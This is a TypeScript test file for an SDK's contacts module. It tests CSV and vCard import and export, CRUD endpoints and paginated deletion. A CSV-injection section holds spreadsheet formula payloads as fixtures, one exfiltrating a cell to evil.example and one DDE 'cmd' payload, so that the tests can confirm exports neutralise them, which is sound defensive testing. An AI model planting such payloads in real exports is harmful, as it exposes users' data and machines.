import * as fc from 'fast-check';
import nock from 'nock';
import Papa from 'papaparse';
import {
  createContactsModule,
  SipgateIOPartialFailureError,
  SipgateIOValidationError,
  type ContactResponse,
} from '../../../lib';
import { contactToVCard, foldLine, parseVCards } from '../../../lib/resources/contacts/vcard';
import { DELETE_CONCURRENCY } from '../../../lib/resources/contacts';
import { API, isolateNetwork, testClient } from '../../helpers/fixtures';

isolateNetwork();

function captureLogger() {
  const warnings: string[] = [];
  return { warnings, logger: { warn: (message: string) => warnings.push(message) } };
}

/** Decodes the CSV the SDK sends to /contacts/import/csv. */
function expectImport(expectedCsv: string) {
  return nock(API)
    .post('/contacts/import/csv', (body: { base64Content: string }) => {
      expect(Buffer.from(body.base64Content, 'base64').toString('utf8')).toBe(expectedCsv);
      return true;
    })
    .reply(204);
}

const contact = (
  id: string,
  scope: ContactResponse['scope'],
  extra: Partial<ContactResponse> = {},
): ContactResponse => ({
  id,
  name: `Person ${id}`,
  picture: null,
  emails: [],
  numbers: [{ number: '+4921163553355', type: ['cell'] }],
  addresses: [],
  organization: [],
  scope,
  ...extra,
});

describe('CSV import', () => {
  it('reads columns in any order and case, ignores extra columns and empty lines', async () => {
    const scope = expectImport('firstname,lastname,number\nAlan,Turing,+4921163553355\nAda,Lovelace,+4921163553356');
    const csv =
      'Number,LASTNAME,Notes,firstName\n+4921163553355,Turing,"likes, commas",Alan\n\n\n+4921163553356,Lovelace,,Ada\n';
    await createContactsModule(testClient()).importFromCsvString(csv);
    expect(scope.isDone()).toBe(true);
  });

  it('handles quoted fields with commas, quotes and line breaks, CRLF and a UTF-8 BOM', async () => {
    // A line break inside quotes is data and is kept as sent.
    expectImport(
      'firstname,lastname,number\n"Jean, Jr.","O""Neil",+4921163553355\n"Zoë\r\nMarie",Müller,+4915799912345',
    );
    const csv =
      '\uFEFFfirstname,lastname,number\r\n"Jean, Jr.","O""Neil",+4921163553355\r\n"Zoë\r\nMarie",Müller,+4915799912345\r\n';
    await createContactsModule(testClient()).importFromCsvString(csv);
  });

  it('refuses a missing required column with the established text', async () => {
    const error = await createContactsModule(testClient())
      .importFromCsvString('firstname,surname,number\nA,B,+4921163553355')
      .catch((e: unknown) => e);
    expect(error).toBeInstanceOf(SipgateIOValidationError);
    expect(error).toMatchObject({
      message: 'Missing header field in CSV: lastname',
      field: 'csvContent',
      detail: expect.stringMatching(/column "lastname"/),
    });
  });

  it('refuses an empty text, a non-string and an unterminated quote as an invalid CSV string', async () => {
    const contacts = createContactsModule(testClient());
    for (const input of ['', '\n\r\n', 42 as unknown as string]) {
      await expect(contacts.importFromCsvString(input)).rejects.toMatchObject({
        name: 'SipgateIOValidationError',
        message: 'Invalid CSV string',
      });
    }
    await expect(contacts.importFromCsvString('firstname,lastname,number\n"A,B,+4921163553355')).rejects.toMatchObject({
      message: 'Invalid CSV string',
      detail: expect.stringMatching(/malformed CSV at row 2/),
    });
  });

  // Row 2 has no number, row 4 no name, row 5 too few fields, row 6 too many; rows 3 and 7 are fine.
  const withGaps = [
    'firstname,lastname,number',
    'Alan,Turing,',
    'Ada,Lovelace,+4921163553356',
    ',,+4921163553357',
    'Grace,Hopper',
    'Edsger,Dijkstra,+4921163553358,extra',
    'Barbara,Liskov,+4921163553359',
    '',
  ].join('\n');

  it('refuses the whole import before any write when rows lack values, naming the rows and fields', async () => {
    // isolateNetwork: any request would fail the test.
    const error = await createContactsModule(testClient())
      .importFromCsvString(withGaps)
      .catch((e: unknown) => e);
    expect(error).toBeInstanceOf(SipgateIOValidationError);
    const { message, detail } = error as SipgateIOValidationError;
    expect(message).toBe('Missing values in CSV');
    expect(detail).toMatch(/row 2 \(number\)/);
    expect(detail).toMatch(/row 4 \(firstname and lastname\)/);
    expect(detail).toMatch(/row 5 \(2 fields, the header has 3\)/);
    expect(detail).toMatch(/row 6 \(4 fields, the header has 3\)/);
    expect(detail).toMatch(/skipInvalidRows/);
    // Values never appear, only positions and column names.
    expect(JSON.stringify((error as SipgateIOValidationError).toJSON())).not.toMatch(
      /Turing|Hopper|Dijkstra|4921163553357/,
    );
  });

  it('with { skipInvalidRows: true } imports the other rows and lists what it skipped', async () => {
    const scope = expectImport('firstname,lastname,number\nAda,Lovelace,+4921163553356\nBarbara,Liskov,+4921163553359');
    const result = await createContactsModule(testClient()).importFromCsvString(withGaps, { skipInvalidRows: true });
    expect(scope.isDone()).toBe(true);
    expect(result).toEqual({
      imported: 2,
      skipped: [
        { row: 2, reason: 'missing_values', fields: ['number'] },
        { row: 4, reason: 'missing_values', fields: ['firstname', 'lastname'] },
        { row: 5, reason: 'field_count', fields: ['number'] },
        { row: 6, reason: 'field_count', fields: [] },
      ],
    });
  });

  it('counts rows as a spreadsheet shows them and skips blank ones like empty lines', async () => {
    // Row 2 is empty, row 3 holds a quoted line break, rows 4 and 5 are blank, row 6 lacks a number.
    const csv = 'firstname,lastname,number\n\n"Zoë\nMarie",Müller,+4915799912345\n,,\n , ,\nAlan,Turing,\n';
    await expect(createContactsModule(testClient()).importFromCsvString(csv)).rejects.toMatchObject({
      message: 'Missing values in CSV',
      detail: expect.stringMatching(/: row 6 \(number\)\./),
    });
    expectImport('firstname,lastname,number\n"Zoë\nMarie",Müller,+4915799912345');
    await expect(
      createContactsModule(testClient()).importFromCsvString(csv, { skipInvalidRows: true }),
    ).resolves.toEqual({
      imported: 1,
      skipped: [{ row: 6, reason: 'missing_values', fields: ['number'] }],
    });
  });

  it('refuses a number that is not a phone number, or skips it on request', async () => {
    const contacts = createContactsModule(testClient());
    const csv = 'firstname,lastname,number\nA,B,call me\nAda,Lovelace,+4921163553356\n';
    await expect(contacts.importFromCsvString(csv)).rejects.toMatchObject({
      name: 'SipgateIOValidationError',
      message: expect.stringMatching(/row 2.*not a phone number/),
    });
    expectImport('firstname,lastname,number\nAda,Lovelace,+4921163553356');
    await expect(contacts.importFromCsvString(csv, { skipInvalidRows: true })).resolves.toEqual({
      imported: 1,
      skipped: [{ row: 2, reason: 'invalid_number', fields: ['number'] }],
    });
  });

  it('warns and sends nothing for a header-only CSV', async () => {
    const { warnings, logger } = captureLogger();
    await createContactsModule(testClient({ logger })).importFromCsvString('firstname,lastname,number\n');
    expect(warnings).toEqual([expect.stringMatching(/no contacts/)]);
    await expect(
      createContactsModule(testClient({ logger })).importFromCsvString('firstname,lastname,number\n', {
        skipInvalidRows: true,
      }),
    ).resolves.toEqual({ imported: 0, skipped: [] });
  });

  it('passes no option of its own on to the request', async () => {
    expectImport('firstname,lastname,number\nAda,Lovelace,+4921163553356');
    await createContactsModule(testClient()).importFromCsvString(
      'firstname,lastname,number\nAda,Lovelace,+4921163553356',
      { skipInvalidRows: false, timeout: 5_000 },
    );
  });
});

describe('vCard', () => {
  const ada = contact('1', 'PRIVATE', {
    name: 'Ada Lovelace',
    numbers: [
      { number: '+4921163553355', type: ['cell'] },
      { number: '+4921163553356', type: ['work', 'fax'] },
    ],
    emails: [
      { email: 'ada@example.com', type: ['home'] },
      { email: 'countess@example.org', type: [] },
    ],
    addresses: [
      {
        poBox: '',
        extendedAddress: 'Flat 2; Rear',
        streetAddress: "12 St James's Square, West",
        locality: 'London',
        region: '',
        postalCode: 'SW1Y 4JH',
        country: 'UK',
      },
    ],
    organization: [['Analytical Engines, Ltd.', 'R&D\\Research']],
  });

  it('escapes commas, semicolons, backslashes and newlines', () => {
    const card = contactToVCard({ ...ada, name: 'Ada; Augusta, \\ Byron\nKing' });
    expect(card).toContain('FN:Ada\\; Augusta\\, \\\\ Byron\\nKing');
    expect(card).toContain('ORG:Analytical Engines\\, Ltd.;R&D\\\\Research');
    expect(card).toContain("ADR:;Flat 2\\; Rear;12 St James's Square\\, West;London;;SW1Y 4JH;UK");
    expect(card).toContain('TEL;TYPE=work,fax;VALUE=text:+4921163553356');
    expect(card.startsWith('BEGIN:VCARD\r\nVERSION:4.0\r\n')).toBe(true);
  });

  it('exports incomplete contacts from the network without failing', () => {
    const broken = {
      name: undefined,
      numbers: [
        { number: undefined, type: null },
        { number: '+49211', type: ['cell', 7] },
      ],
      emails: [null],
      addresses: [null],
      organization: [null, ['X']],
    };
    const card = contactToVCard(broken as never);
    expect(card).toContain('TEL;TYPE=cell;VALUE=text:+49211');
    expect(card).toContain('ORG:X');
    expect(card.match(/^TEL/gm)).toHaveLength(1);
  });

  it('folds lines longer than 75 octets without splitting UTF-8 characters', () => {
    const line = `FN:${'ü'.repeat(60)}`;
    const folded = foldLine(line);
    const parts = folded.split('\r\n');
    expect(parts.length).toBeGreaterThan(1);
    for (const part of parts) expect(Buffer.byteLength(part)).toBeLessThanOrEqual(75);
    expect(folded.replace(/\r\n /g, '')).toBe(line);
  });

  it('round-trips: export, then import, yields the same contacts', () => {
    const others = [
      contact('2', 'SHARED', {
        name: 'Zoë Ünal-Çelik',
        organization: [['Été']],
        emails: [{ email: 'zoe@example.de', type: ['work'] }],
      }),
      contact('3', 'SHARED', { name: 'Prince', numbers: [{ number: '+4915799912345', type: ['home', 'cell'] }] }),
      contact('4', 'PRIVATE', { name: 'Long ' + 'Name '.repeat(30).trim() }),
    ];
    const text = [ada, ...others].map(contactToVCard).join('');
    const parsed = parseVCards(text);
    const comparable = (c: Pick<ContactResponse, 'name' | 'numbers' | 'emails' | 'addresses' | 'organization'>) => ({
      name: c.name,
      numbers: c.numbers,
      emails: c.emails,
      addresses: c.addresses,
      organization: c.organization,
    });
    expect(parsed.map(comparable)).toEqual([ada, ...others].map(comparable));
  });

  it('reads real-world cards: folded lines, grouped properties, quoted and vCard 3 style types', () => {
    const text = [
      'BEGIN:VCARD',
      'VERSION:4.0',
      'N:Turing;Alan;Mathison;;',
      'FN:Alan Turing',
      'item1.TEL;TYPE="voice,cell";PREF=1:+44 20 7946 0018',
      'TEL;TYPE=work:tel:+44-20-7946-0019',
      'EMAIL;TYPE=INTERNET;TYPE=HOME:alan@example.co',
      ' m',
      'NOTE:ignored',
      'END:VCARD',
      'BEGIN:VCARD',
      'VERSION:3.0',
      'FN:Grace Hopper',
      'TEL;CELL:+1 555 0100',
      'END:VCARD',
    ].join('\r\n');
    const [alan, grace] = parseVCards(text);
    expect(alan).toMatchObject({
      name: 'Alan Turing',
      family: 'Turing',
      given: 'Alan',
      numbers: [
        { number: '+44 20 7946 0018', type: ['cell'] },
        { number: '+44-20-7946-0019', type: ['work'] },
      ],
      emails: [{ email: 'alan@example.com', type: ['home'] }],
    });
    expect(grace).toMatchObject({ name: 'Grace Hopper', numbers: [{ number: '+1 555 0100', type: ['cell'] }] });
  });

  it.each([
    ['no card', 'hello', /no BEGIN:VCARD/],
    ['no name', 'BEGIN:VCARD\r\nVERSION:4.0\r\nTEL:+49211\r\nEND:VCARD', /no name/],
    ['no number', 'BEGIN:VCARD\r\nVERSION:4.0\r\nFN:X\r\nEND:VCARD', /no phone number/],
    ['version 2.1', 'BEGIN:VCARD\r\nVERSION:2.1\r\nFN:X\r\nTEL:+49211\r\nEND:VCARD', /unsupported VERSION/],
  ])('rejects a text with %s', (_label, text, message) => {
    expect(() => parseVCards(text)).toThrow(message);
  });

  it('importVCardString creates each contact in the scope, after validating all cards', async () => {
    const created: unknown[] = [];
    nock(API)
      .post('/contacts')
      .times(2)
      .reply(204, (_uri, body) => (created.push(body), ''));
    const text = contactToVCard(ada) + contactToVCard(contact('9', 'SHARED', { name: 'Bob Builder' }));
    await createContactsModule(testClient()).importVCardString(text, 'SHARED');
    expect(created).toEqual([
      expect.objectContaining({
        name: 'Ada Lovelace',
        family: 'Lovelace',
        given: 'Ada',
        scope: 'SHARED',
        numbers: ada.numbers,
      }),
      expect.objectContaining({ name: 'Bob Builder', scope: 'SHARED' }),
    ]);
    const bad = contactToVCard(ada) + 'BEGIN:VCARD\r\nVERSION:4.0\r\nFN:No Number\r\nEND:VCARD\r\n';
    await expect(createContactsModule(testClient()).importVCardString(bad, 'PRIVATE')).rejects.toBeInstanceOf(
      SipgateIOValidationError,
    );
  });
});

describe('contacts CRUD and export', () => {
  it('create sends the contact in the API shape', async () => {
    nock(API)
      .post('/contacts', {
        name: 'Ada Lovelace',
        given: 'Ada',
        family: 'Lovelace',
        numbers: [{ number: '+4921163553355', type: ['cell'] }],
        emails: [{ email: 'ada@example.com', type: ['work'] }],
        addresses: [{ locality: 'London' }],
        organization: [['Engines Ltd']],
        picture: null,
        scope: 'PRIVATE',
      })
      .reply(204);
    await createContactsModule(testClient()).create(
      {
        firstname: 'Ada',
        lastname: 'Lovelace',
        phone: { number: '+4921163553355', type: ['cell'] },
        email: { email: 'ada@example.com', type: ['work'] },
        address: { locality: 'London' },
        organization: ['Engines Ltd'],
      },
      'PRIVATE',
    );
  });

  it.each([
    ['the INTERNAL scope', { firstname: 'A', lastname: 'B' }, 'INTERNAL', 'scope'],
    ['no name', { firstname: ' ', lastname: '' }, 'PRIVATE', 'contact.firstname'],
    [
      'a bad email',
      { firstname: 'A', lastname: 'B', email: { email: 'nope', type: [] } },
      'PRIVATE',
      'contact.email.email',
    ],
    [
      'a bad number',
      { firstname: 'A', lastname: 'B', phone: { number: 'x', type: [] } },
      'SHARED',
      'contact.phone.number',
    ],
  ])('create rejects %s', async (_label, value, scope, field) => {
    await expect(createContactsModule(testClient()).create(value as never, scope as never)).rejects.toMatchObject({
      field,
    });
  });

  it('update, delete and deleteAllPrivate hit the right endpoints', async () => {
    const c = contact('c/1', 'SHARED');
    nock(API)
      .put('/contacts/c%2F1', {
        id: 'c/1',
        name: c.name,
        picture: null,
        numbers: [{ number: '+4921163553355', type: ['cell'] }],
        emails: [],
        addresses: [],
        organization: [],
        scope: 'SHARED',
      })
      .reply(204);
    nock(API).delete('/contacts/c%2F1').reply(204);
    nock(API).delete('/contacts').reply(204);
    const contacts = createContactsModule(testClient());
    await contacts.update(c);
    await contacts.delete('c/1');
    await contacts.deleteAllPrivate();
  });

  it('get reads every page and filters by scope; with a filter, pagination still applies', async () => {
    nock(API)
      .get('/contacts')
      .query({ offset: '0', limit: '100' })
      .reply(200, {
        items: [...Array(99)].map((_, i) => contact(`p${i}`, 'PRIVATE')).concat(contact('s0', 'SHARED')),
        totalCount: 101,
      });
    nock(API)
      .get('/contacts')
      .query({ offset: '100', limit: '100' })
      .reply(200, { items: [contact('s1', 'SHARED')], totalCount: 101 });
    nock(API)
      .get('/contacts')
      .query({ phonenumbers: '+4921163553355', offset: '5', limit: '2' })
      .reply(200, { items: [contact('x', 'INTERNAL'), contact('y', 'PRIVATE')] });
    const contacts = createContactsModule(testClient());
    expect((await contacts.get('SHARED')).map((c) => c.id)).toEqual(['s0', 's1']);
    expect(
      (await contacts.get('ALL', { offset: 5, limit: 2 }, { phoneNumbers: ['+4921163553355'] })).map((c) => c.id),
    ).toEqual(['x', 'y']);
  });

  it('exports CSV with a custom delimiter and quoting, vCards and JSON', async () => {
    const items = [
      contact('1', 'PRIVATE', {
        name: 'Müller; Anna',
        emails: [{ email: 'a@b.de', type: [] }],
        organization: [['ACME', 'Sales']],
      }),
    ];
    nock(API).get('/contacts').query(true).times(5).reply(200, { items });
    const contacts = createContactsModule(testClient());
    // The established library's columns and quoting: the header and every text cell in quotes.
    expect(await contacts.exportAsCsv('PRIVATE', ';')).toBe(
      '"id";"name";"emails";"numbers";"addresses";"organizations"\n"1";"Müller; Anna";"a@b.de";"+4921163553355";"";"ACME / Sales"',
    );
    // This SDK's extra column only on request.
    expect(await contacts.exportAsCsv('PRIVATE', ',', undefined, undefined, { extraColumns: ['scope'] })).toBe(
      '"id","name","emails","numbers","addresses","organizations","scope"\n"1","Müller; Anna","a@b.de","+4921163553355","","ACME / Sales","PRIVATE"',
    );
    await expect(
      contacts.exportAsCsv('PRIVATE', ',', undefined, undefined, { extraColumns: ['picture' as 'scope'] }),
    ).rejects.toMatchObject({ field: 'options.extraColumns' });
    expect(await contacts.exportAsVCards('ALL')).toEqual([contactToVCard(items[0])]);
    expect(await contacts.exportAsSingleVCard('ALL')).toBe(contactToVCard(items[0]));
    // The established library's JSON shape: emails and numbers as plain strings, `organizations`, and the total.
    expect(JSON.parse(await contacts.exportAsJSON('PRIVATE'))).toEqual({
      contacts: [
        {
          id: '1',
          name: 'Müller; Anna',
          emails: ['a@b.de'],
          numbers: ['+4921163553355'],
          addresses: [],
          organizations: [['ACME', 'Sales']],
          scope: 'PRIVATE',
        },
      ],
      totalCount: 1,
    });
    await expect(contacts.exportAsCsv('PRIVATE', '"')).rejects.toMatchObject({ field: 'delimiter' });
    nock.cleanAll();
  });

  describe('CSV injection (OWASP): cells a spreadsheet would run as formulas', () => {
    const address = (streetAddress: string) => ({
      poBox: '',
      extendedAddress: '',
      streetAddress,
      locality: '',
      region: '',
      postalCode: '',
      country: '',
    });
    const items = [
      contact('1', 'PRIVATE', {
        name: '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
        emails: [{ email: '@SUM(1+1)@example.com', type: [] }],
        numbers: [
          { number: '+4915799912345', type: [] },
          { number: '+4921163553355', type: [] },
        ],
        addresses: [address('\tTab Street 1')],
        organization: [["-2+3+cmd|' /C calc'!A0"]],
      }),
      contact('2', 'PRIVATE', {
        name: '+4915799912345',
        numbers: [{ number: '+49 157 99912345', type: [] }],
        organization: [['\rCR Ltd']],
      }),
      contact('3', 'PRIVATE', {
        name: '+1-1',
        emails: [{ email: '+x@example.com', type: [] }],
        numbers: [{ number: '-1', type: [] }],
      }),
      contact('4', 'PRIVATE', {
        name: 'Ada Lovelace',
        emails: [{ email: 'ada@example.com', type: [] }],
        organization: [['ACME = fun']],
      }),
    ];
    const cellsOf = (csv: string): string[][] => Papa.parse<string[]>(csv).data.slice(1);

    it('prefixes them with a single quote, leaving phone numbers and other cells as they are', async () => {
      nock(API).get('/contacts').query(true).reply(200, { items });
      expect(cellsOf(await createContactsModule(testClient()).exportAsCsv('PRIVATE'))).toEqual([
        [
          '1',
          `'=HYPERLINK("https://evil.example/?x="&A1,"Click")`,
          "'@SUM(1+1)@example.com",
          '+4915799912345, +4921163553355',
          "'\tTab Street 1",
          "'-2+3+cmd|' /C calc'!A0",
        ],
        ['2', '+4915799912345', '', '+49 157 99912345', '', "'\rCR Ltd"],
        ['3', "'+1-1", "'+x@example.com", "'-1", '', ''],
        ['4', 'Ada Lovelace', 'ada@example.com', '+4921163553355', '', 'ACME = fun'],
      ]);
    });

    it('does the same in every CSV export and in the extra columns', async () => {
      nock(API)
        .get('/contacts')
        .query(true)
        .times(2)
        .reply(200, { items: items.slice(0, 1) });
      const contacts = createContactsModule(testClient());
      const { response } = await contacts.paginatedExportAsCsv('PRIVATE', ';', { offset: 0, limit: 10 });
      let streamed = '';
      for await (const chunk of contacts.iterateCsv('PRIVATE', { extraColumns: ['scope'] })) streamed += chunk;
      for (const csv of [response, streamed])
        expect(cellsOf(csv)[0][1]).toBe(`'=HYPERLINK("https://evil.example/?x="&A1,"Click")`);
    });

    it('no exported cell starts a formula, whatever the contact holds (property)', async () => {
      const formulaStart = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '');
      const text = fc.tuple(formulaStart, fc.string({ maxLength: 12 })).map(([start, rest]) => start + rest);
      const generated = fc.array(
        fc.record({
          name: text,
          email: text,
          number: fc.oneof(text, fc.constantFrom('+4915799912345', '+49 211 63553355')),
          org: text,
          street: text,
        }),
        { minLength: 1, maxLength: 5 },
      );
      await fc.assert(
        fc.asyncProperty(generated, async (people) => {
          const list = people.map((p, i) =>
            contact(`c${i}`, 'PRIVATE', {
              name: p.name,
              emails: [{ email: p.email, type: [] }],
              numbers: [{ number: p.number, type: [] }],
              organization: [[p.org]],
              addresses: [address(p.street)],
            }),
          );
          nock(API).get('/contacts').query(true).reply(200, { items: list });
          const rows = cellsOf(await createContactsModule(testClient()).exportAsCsv('PRIVATE'));
          for (const cell of rows.flat()) {
            // Only a phone number (or a list of them) may start with + and stay as it is.
            if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^\+[\d ()./-]+(, \+[\d ()./-]+)*$/);
          }
          nock.cleanAll();
        }),
        { numRuns: 40 },
      );
    });
  });

  describe('streaming exports', () => {
    // 250 contacts over three pages, a quarter of them shared, with values that need CSV quoting.
    const everyone = [...Array(250)].map((_, i) =>
      contact(`c${i}`, i % 4 === 0 ? 'SHARED' : 'PRIVATE', {
        name: i % 7 === 0 ? `Quote "${i}", Comma` : `Person ${i}`,
        emails: [{ email: `p${i}@example.com`, type: [] }],
      }),
    );
    const servePages = () => {
      for (let offset = 0; offset < 300; offset += 100) {
        nock(API)
          .get('/contacts')
          .query({ offset: String(offset), limit: '100' })
          .reply(200, { items: everyone.slice(offset, offset + 100), totalCount: everyone.length });
      }
    };
    const collect = async (chunks: AsyncIterable<string>): Promise<string[]> => {
      const all: string[] = [];
      for await (const chunk of chunks) all.push(chunk);
      return all;
    };

    it('iterateCsv yields the header, then one chunk per page, that join to exportAsCsv', async () => {
      const contacts = createContactsModule(testClient());
      servePages();
      const whole = await contacts.exportAsCsv('PRIVATE', ';');
      servePages();
      const chunks = await collect(contacts.iterateCsv('PRIVATE', { delimiter: ';' }));
      expect(chunks.join('')).toBe(whole);
      expect(chunks[0]).toBe('"id";"name";"emails";"numbers";"addresses";"organizations"\n');
      servePages();
      const withScope = await collect(contacts.iterateCsv('PRIVATE', { extraColumns: ['scope'] }));
      expect(withScope[0]).toBe('"id","name","emails","numbers","addresses","organizations","scope"\n');
      expect(withScope[1].split('\n')[0]).toMatch(/,"PRIVATE"$/);
      expect(chunks).toHaveLength(3); // header, 100 rows, the remaining 87
      expect(whole.split('\n')).toHaveLength(1 + everyone.filter((c) => c.scope === 'PRIVATE').length);
    });

    it('iterateCsv reads the next page only when the consumer asks for more', async () => {
      servePages();
      const stream = createContactsModule(testClient()).iterateCsv('ALL');
      await stream.next(); // header
      await stream.next(); // first page
      expect(nock.pendingMocks()).toHaveLength(2);
      await stream.return(undefined);
      nock.cleanAll();
    });

    it('iterateVCards yields one card per contact, joining to exportAsSingleVCard', async () => {
      const contacts = createContactsModule(testClient());
      servePages();
      const whole = await contacts.exportAsSingleVCard('SHARED');
      servePages();
      const cards = await collect(contacts.iterateVCards('SHARED'));
      expect(cards).toHaveLength(everyone.filter((c) => c.scope === 'SHARED').length);
      expect(cards.join('')).toBe(whole);
    });

    it('rejects a bad delimiter, scope or filter when called, before any request', () => {
      const contacts = createContactsModule(testClient());
      expect(() => contacts.iterateCsv('PRIVATE', { delimiter: '\n' })).toThrow(
        expect.objectContaining({ field: 'delimiter' }),
      );
      expect(() => contacts.iterateCsv('NOPE' as 'ALL')).toThrow(expect.objectContaining({ field: 'scope' }));
      expect(() => contacts.iterateVCards('ALL', { filter: { phoneNumbers: ['call me'] } })).toThrow(
        expect.objectContaining({ field: 'filter.phonenumbers[0]' }),
      );
    });
  });

  it('deleteAllShared deletes every shared contact across pages, never more than the concurrency bound at once', async () => {
    const shared = Array.from({ length: 23 }, (_, i) => contact(`s${i}`, 'SHARED'));
    const page1 = [...shared.slice(0, 12), ...Array.from({ length: 88 }, (_, i) => contact(`p${i}`, 'PRIVATE'))];
    nock(API).get('/contacts').query({ offset: '0', limit: '100' }).reply(200, { items: page1 });
    nock(API)
      .get('/contacts')
      .query({ offset: '100', limit: '100' })
      .reply(200, { items: shared.slice(12) });
    let active = 0;
    let peak = 0;
    const deleted: string[] = [];
    nock(API)
      .delete(/\/contacts\/s\d+/)
      .times(23)
      .reply(async (uri) => {
        active += 1;
        peak = Math.max(peak, active);
        await new Promise((resolve) => setTimeout(resolve, 10));
        active -= 1;
        deleted.push(uri.split('/').pop()!);
        return [204, ''];
      });
    await createContactsModule(testClient()).deleteAllShared();
    expect(deleted.sort()).toEqual(shared.map((c) => c.id).sort());
    expect(peak).toBe(DELETE_CONCURRENCY);
  });

  it('deleteAllShared finishes every deletion, then rejects with one error listing the failures', async () => {
    const shared = ['a', 'b', 'c', 'd'].map((id) => contact(id, 'SHARED'));
    nock(API).get('/contacts').query(true).reply(200, { items: shared });
    nock(API).delete('/contacts/a').reply(204);
    nock(API).delete('/contacts/b').reply(403, { message: 'not yours' });
    nock(API).delete('/contacts/c').delay(50).reply(204);
    nock(API).delete('/contacts/d').reply(404);
    const error = await createContactsModule(testClient())
      .deleteAllShared()
      .catch((e: unknown) => e);
    expect(error).toBeInstanceOf(SipgateIOPartialFailureError);
    const partial = error as SipgateIOPartialFailureError;
    expect(partial.succeeded).toBe(2);
    expect(partial.failures.map((f) => [f.id, f.error.kind]).sort()).toEqual([
      ['b', 'permission'],
      ['d', 'not_found'],
    ]);
    expect(partial.message).toMatch(/Deleted 2 of 4/);
  });
});
